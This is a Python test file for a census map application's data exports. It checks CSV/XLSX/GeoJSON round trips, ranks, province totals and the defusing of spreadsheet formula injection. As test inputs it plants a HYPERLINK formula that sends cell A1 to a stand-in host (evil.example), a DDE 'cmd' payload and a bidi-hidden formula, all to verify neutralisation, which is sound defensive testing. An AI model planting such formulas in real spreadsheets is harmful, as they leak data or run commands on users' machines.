"""Data files of the view: CSV and XLSX round trips (codes text, numbers numbers, formulas defused), GeoJSON/GPKG."""

from __future__ import annotations

import datetime as dt
import io
from dataclasses import replace

import numpy as np
import openpyxl
import pandas as pd
import pyogrio
import pytest

from app.core.mapdata import legend_entries, shown_table
from app.core.viewstate import ViewState
from app.export import datafiles
from geodata import load_boundaries
from tests.support.exports import boundaries, data_for

CRAFTED = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def crafted_view():
    """The default county view with hostile strings planted in a name and a category-like text cell."""
    data = data_for(ViewState(vmin=3000))
    table = data.table.copy()
    for column in ("name", "label"):  # the table shows the unique label (市中区（内江）)
        table.loc[0, column] = CRAFTED
        table.loc[1, column] = "+cmd|' /C calc'!A0"
        table.loc[2, column] = "\tTabbed"
    return replace(data, table=table)


def read_back(raw: bytes, **kwargs) -> pd.DataFrame:
    """The table part of an exported CSV (unit, year and source follow it after an empty line)."""
    text = raw.decode("utf-8-sig")
    table_part, notes = text.split("\r\n\r\n", 1)
    assert "来源" in notes or "Source" in notes
    return pd.read_csv(io.StringIO(table_part), dtype=str, **kwargs)


def test_csv_has_a_bom_keeps_codes_as_text_numbers_as_numbers_and_defuses_formulas():
    data = crafted_view()
    raw = datafiles.csv_bytes(data)
    assert raw.startswith(b"\xef\xbb\xbf")
    back = read_back(raw, keep_default_na=False)
    expected = shown_table(data)
    assert list(back["区划代码"]) == list(expected["区划代码"])  # as written, all six digits
    assert back.loc[0, "名称"] == "'" + CRAFTED
    assert back.loc[1, "名称"].startswith("'+")
    assert back.loc[2, "名称"] == "'\tTabbed"
    assert back.loc[3, "名称"] == expected.loc[3, "名称"]  # ordinary names untouched
    value_col = next(c for c in back.columns if c.startswith("每个乡镇"))
    numbers = pd.to_numeric(back[value_col])
    np.testing.assert_allclose(numbers, data.table["value"].astype(float).round(1))
    assert not any(v.startswith("'") for v in back[value_col])


def test_csv_carries_the_screen_class_and_colour_of_each_region():
    data = data_for(ViewState(level="prefecture", vmax=10000))
    back = read_back(datafiles.csv_bytes(data))
    assert list(back["颜色"]) == list(data.table["colour"])
    filtered = data.table["status"] == "filtered"
    assert filtered.any()
    legend = {colour: label for colour, label, _ in legend_entries(data)}
    shown = (data.table["status"] == "shown").to_numpy()
    assert list(back.loc[shown, "分级"]) == [legend[c] for c in data.table.loc[shown, "colour"]]
    assert back["在所选数值范围内"].eq("否").sum() == int(filtered.sum())


def test_xlsx_round_trip_data_and_metadata_sheets():
    data = crafted_view()
    wb = openpyxl.load_workbook(io.BytesIO(datafiles.xlsx_bytes(data, dt.date(2026, 11, 29))))
    assert wb.sheetnames == ["数据", "说明"]
    sheet = wb["数据"]
    header = [c.value for c in sheet[1]]
    code_col = header.index("区划代码")
    value_col = next(i for i, h in enumerate(header) if h.startswith("每个乡镇"))
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == 183  # one row per outline; a zone's own figure is in a column of its own
    for row in rows:
        assert row[code_col].data_type == "s" and len(row[code_col].value) == 6  # text, never a number
        assert row[value_col].data_type == "n" or row[value_col].value is None  # a number, never text
    name = rows[0][header.index("名称")]
    assert name.data_type == "s" and name.value == "'" + CRAFTED  # text, not a live formula
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    meta = {r[0].value: r[1].value for r in wb["说明"].iter_rows(min_row=2)}
    for key in ("标题", "单位", "年份", "来源", "分级方法", "分级断点", "导出日期"):
        assert meta.get(key), key
    assert meta["标题"] == data.layer.title("zh")
    assert meta["单位"] == "人/乡镇" and meta["导出日期"] == "2026-11-29"
    assert meta["分级方法"] == "分位数，5 级"
    assert meta["视图参数"] == "min=3000"
    assert meta["数值范围"] == "3,000.0 –"  # the layer's precision (a rate: 0.1), as on the page


def test_xlsx_in_english_names_its_sheets_in_english():
    wb = openpyxl.load_workbook(io.BytesIO(datafiles.xlsx_bytes(data_for(ViewState(lang="en", level="prefecture")))))
    assert wb.sheetnames == ["data", "metadata"]
    assert [c.value for c in wb["data"][1]][:2] == ["Name", "Code"]


@pytest.mark.parametrize("fmt", ["geojson", "gpkg"])
def test_geodata_round_trip_in_wgs84_and_gcj02(fmt):
    data = data_for(ViewState(level="county", area="513400"))
    wgs = pyogrio.read_dataframe(io.BytesIO(datafiles.geo_bytes(boundaries("county"), data, fmt)))
    assert wgs.crs.to_epsg() == 4326
    assert list(wgs["adcode"]) == list(data.table["adcode"])  # 17 Liangshan counties, codes as text
    assert pd.api.types.is_string_dtype(wgs["adcode"])
    np.testing.assert_allclose(wgs["value"].astype(float), data.table["value"].astype(float), rtol=1e-9)
    assert list(wgs["colour"]) == list(data.table["colour"])
    assert "人口普查" in wgs["source"].iloc[0]
    gcj_shapes = load_boundaries("county", detail="web", datum="gcj02")
    gcj = pyogrio.read_dataframe(io.BytesIO(datafiles.geo_bytes(gcj_shapes, data, fmt)))
    # GCJ-02 is offset from WGS84 by a few hundred metres (here about 0.002° east, 0.003° south).
    shift = gcj.total_bounds - wgs.total_bounds
    assert all(0.0005 < abs(d) < 0.01 for d in shift), shift


def test_neutralise_leaves_numbers_and_plain_text_alone():
    assert datafiles.neutralise(-5.0) == -5.0
    assert datafiles.neutralise("成都市") == "成都市"
    assert datafiles.neutralise("@SUM(A1)") == "'@SUM(A1)"
    assert datafiles.neutralise("\r=1") == "'\r=1"


def test_xlsx_and_geojson_give_the_table_ranks_of_tied_shown_values():
    # 新都区 510114 and 宁南县 513427 both show 14.96 % aged 60+: one rank, 140, in every export.
    data = data_for(ViewState(layer="pop_60plus_share", level="county"))
    table = shown_table(data).set_index("区划代码")["排名"]
    assert table[["510114", "513427"]].tolist() == [140, 140]
    sheet = openpyxl.load_workbook(io.BytesIO(datafiles.xlsx_bytes(data)))["数据"]
    header = [c.value for c in sheet[1]]
    xlsx = {r[header.index("区划代码")]: r[header.index("排名")] for r in sheet.iter_rows(min_row=2, values_only=True)}
    geo = pyogrio.read_dataframe(io.BytesIO(datafiles.geo_bytes(boundaries("county"), data, "geojson")))
    geo_rank = dict(zip(geo["adcode"], geo["rank"], strict=True))
    for code in data.table["adcode"]:
        assert xlsx[code] == table[code] == geo_rank[code], code


def test_geojson_names_the_two_shizhong_districts_apart():
    data = data_for(ViewState(layer="pop_total", level="county"))
    geo = pyogrio.read_dataframe(io.BytesIO(datafiles.geo_bytes(boundaries("county"), data, "geojson")))
    names = dict(zip(geo["adcode"], geo["name"], strict=True))
    assert (names["511002"], names["511102"]) == ("市中区（内江）", "市中区（乐山）")
    assert names["510104"] == "锦江区"


def _province_figure(layer) -> float:
    """A count layer's figure for Sichuan as a whole, from the province rows of its sources."""
    from layers import BuilderSpec, DerivedSpec, IndicatorSpec
    from layers.tables import shipped_long_table

    spec = layer.spec
    if isinstance(spec, IndicatorSpec):
        table = shipped_long_table(spec.resource)
        row = table[
            (table["level"] == "province") & (table["indicator"] == spec.indicator) & (table["year"] == spec.year)
        ]
        return float(row["value"].iloc[0])
    if isinstance(spec, DerivedSpec) and spec.op == "difference":
        return _province_figure(layer.siblings.get(spec.a)) - _province_figure(layer.siblings.get(spec.b))
    assert isinstance(spec, BuilderSpec) and spec.builder == "area_km2", layer.id
    return float(load_boundaries("province", detail="web")["area_km2"].iloc[0])


def _count_views() -> list[ViewState]:
    from tests.support.exports import registry

    views = []
    for layer in registry().list_layers(level="county"):
        if layer.kind == "count":
            views += [ViewState(layer=layer.id, level="county", year=y) for y in layer.years or (None,)]
    return views


@pytest.mark.parametrize("view", _count_views(), ids=lambda v: f"{v.layer}@{v.year or ''}")
def test_the_value_column_of_every_county_csv_and_xlsx_sums_to_the_province(view):
    # pop_60plus summed 18,202,288 with the zones as rows of their own (their 38,484 twice); Sichuan has 18,163,804.
    data = data_for(view)
    expected = _province_figure(data.layer)
    column = next(c for c in shown_table(data).columns if c.startswith(data.layer.title("zh")))
    csv_sum = pd.to_numeric(read_back(datafiles.csv_bytes(data))[column]).sum()
    sheet = openpyxl.load_workbook(io.BytesIO(datafiles.xlsx_bytes(data)))["数据"]
    header = [c.value for c in sheet[1]]
    xlsx_sum = sum(r[header.index(column)] or 0 for r in sheet.iter_rows(min_row=2, values_only=True))
    # Area is rounded to whole km² per county; every other count is whole to begin with.
    tolerance = 0.5 * len(data.table) if data.layer.id == "area_km2" else 0
    assert abs(csv_sum - expected) <= tolerance and abs(xlsx_sum - expected) <= tolerance, (csv_sum, expected)


def test_format_characters_are_dropped_from_spreadsheet_text_and_print_titles():
    """A bidi override hid a leading "=" from the formula check and reordered metadata (issue 25)."""
    from app.export.datafiles import neutralise
    from app.export.printmap import PrintOptions

    assert neutralise("\u202e=HYPERLINK(1)") == "'=HYPERLINK(1)" and neutralise("成\u200b都") == "成都"
    options = PrintOptions(title="图\u202e题", subtitle="\u2066副", note="注\u00ad")
    assert (options.title, options.subtitle, options.note) == ("图题", "副", "注")
